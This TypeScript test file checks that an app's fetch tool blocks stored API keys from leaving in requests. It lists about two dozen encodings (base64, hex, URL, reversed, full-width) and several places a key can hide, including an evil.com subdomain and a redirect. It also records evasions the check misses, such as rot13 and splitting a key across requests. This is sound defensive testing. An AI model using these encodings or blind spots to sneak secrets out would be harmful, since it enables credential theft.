import { createToolFetchHarness, textOf } from '../support/harness/tool-fetch-harness';
import { containsEncodedSecret } from '@/domain/secrets/find-secret';
import { startRawServer, type RawServer } from '../support/servers/raw-server';

const KEY = 'sk-CANARY-7f3Kq9_ZxW2mB8vT4/aa+Lp0';
/** As long as current keys. */
const LONG_KEY = 'sk-proj-CANARY0q8ZkW3nTyB5uEvR1xHcLm7PdJf4GsAa9oIi2KtYb6';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join('');
const hex = (text: string) => Buffer.from(text).toString('hex');

/** Encodings of the key that any server could reverse. */
const spellings: [string, string][] = [
  ['as it is', KEY],
  ['inside other text', `please store ${KEY} now`],
  ['in capitals', KEY.toUpperCase()],
  ['in small letters', KEY.toLowerCase()],
  ['url-encoded', encodeURIComponent(KEY)],
  ['wholly url-encoded', percent(KEY)],
  ['url-encoded twice', encodeURIComponent(percent(KEY))],
  ['JSON-escaped', [...KEY].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
  ['in base64', base64(KEY)],
  ['in base64, one byte further', base64(`a${KEY}`)],
  ['in base64, two bytes further', base64(`ab${KEY}b`)],
  ['in base64 of a longer text', base64(`{"note":"${KEY}","x":1}`)],
  ['in base64url', Buffer.from(`?>${KEY}`).toString('base64url')],
  ['in base64, url-encoded', encodeURIComponent(base64(KEY))],
  ['in base64 with line breaks', base64(KEY).replace(/(.{10})/g, '$1\r\n')],
  ['in hexadecimal', hex(KEY)],
  ['in capital hexadecimal', hex(KEY).toUpperCase()],
  ['in hexadecimal with colons', hex(KEY).replace(/(..)/g, '$1:')],
  ['with blanks between', [...KEY].join(' ')],
  ['with dots between', [...KEY].join('.')],
  ['backwards', [...KEY].reverse().join('')],
  ['cut in two with text between', `${LONG_KEY.slice(0, 30)} and then ${LONG_KEY.slice(30)}`],
  ['without its beginning', LONG_KEY.slice(20)],
  ['in full-width letters', [...KEY].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')],
];

let server: RawServer;
beforeEach(async () => {
  server = await startRawServer((response) => void response.setHeader('content-type', 'text/plain').end('ok'));
});
afterEach(() => server.stop());

describe.each(spellings)('a stored key %s', (_how, spelling) => {
  it.each([
    ['the path', { url: `https://site.com/${spelling.replace(/[\r\n]/g, '')}` }],
    ['the query', { url: `https://site.com/?q=${encodeURIComponent(spelling)}` }],
    ['a header', { headers: { 'x-note': spelling } }],
    ['the body', { method: 'POST', body: spelling }],
    ['a JSON body', { method: 'POST', body: JSON.stringify({ deep: [{ note: spelling }] }) }],
  ])('is not sent in %s', async (_where, change) => {
    const { ask, asked } = createToolFetchHarness(
      { 'site.com': server },
      { secrets: ['another-secret-1', KEY, LONG_KEY] },
    );
    const error: Error = await ask('https://site.com/', change).then(
      () => new Error('it was sent'),
      (thrown: Error) => thrown,
    );
    expect(error.message).toContain('contains a key or token that is stored in this app');
    expect(error.message).not.toContain('CANARY');
    expect([asked, server.requests]).toEqual([[], []]);
  });
});

it('is not sent in the name of a host', async () => {
  const key = 'sk-canary-7f3kq9zxw2mb8vt4';
  const { ask, asked } = createToolFetchHarness({}, { secrets: [key] });
  for (const host of [key, key.toUpperCase(), 'sk-canary.7f3kq9.zxw2mb8vt4', Buffer.from(key).toString('hex')]) {
    await expect(ask(`https://${host}.evil.com/`)).rejects.toThrow('stored in this app');
  }
  expect(asked).toEqual([]);
});

it('is not sent to a granted host either', async () => {
  const { ask } = createToolFetchHarness({}, { secrets: [KEY], grants: [new URL(server.url).host] });
  await expect(ask(server.url, { method: 'POST', body: KEY })).rejects.toThrow('stored in this app');
  expect(server.requests).toEqual([]);
});

it('is not sent when a redirect contains it', async () => {
  const evil = await startRawServer((response) => {
    response.writeHead(302, { location: `https://site.com/?k=${encodeURIComponent(KEY)}` }).end();
  });
  const { ask } = createToolFetchHarness({ 'evil.com': evil, 'site.com': server }, { secrets: [KEY] });
  await expect(ask('https://evil.com/')).rejects.toThrow('stored in this app');
  expect(server.requests).toEqual([]);
  await evil.stop();
});

it('the check does not match two signed tokens by their common header', () => {
  const head = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9';
  const stored = `${head}.eyJzdWIiOiJjYW5hcnkifQ.q8ZkW3nTyB5uEvR1xHcLm7PdJf4GsAa9`;
  expect(containsEncodedSecret(`${head}.eyJzdWIiOiJzb21lYm9keSJ9.kW2pQ9sLmN4vB7xC1zA5`, [stored])).toBe(false);
  expect(containsEncodedSecret(`x ${stored.slice(40)} x`, [stored])).toBe(true);
});

it('the check blocks nothing else, also when the key is a short placeholder or part of it is mentioned', async () => {
  const { ask } = createToolFetchHarness({ 'site.com': server }, { secrets: [KEY, 'ollama', ''] });
  const body = `How do I use a key like sk-CANARY with ollama? ${base64('sk-CANARY')} ${hex('sk-CANARY')} %zz %`;
  expect(textOf(await ask('https://site.com/?q=sk-CANARY-7f3', { method: 'POST', body }))).toBe('ok');
  expect(server.requests[0]?.body).toBe(body);
});

it('the check cannot detect: encryption, small parts, and parts in several requests', () => {
  const rot13 = KEY.replace(/[a-z]/gi, (c) =>
    String.fromCharCode((((c.charCodeAt(0) & 31) + 12) % 26) + (c < 'a' ? 65 : 97)),
  );
  expect(containsEncodedSecret(rot13, [KEY])).toBe(false);
  const pieces = LONG_KEY.match(/.{1,12}/g) ?? [];
  expect(containsEncodedSecret(pieces.join(' and '), [LONG_KEY])).toBe(false);
  expect(pieces.some((piece) => containsEncodedSecret(piece, [LONG_KEY]))).toBe(false);
});
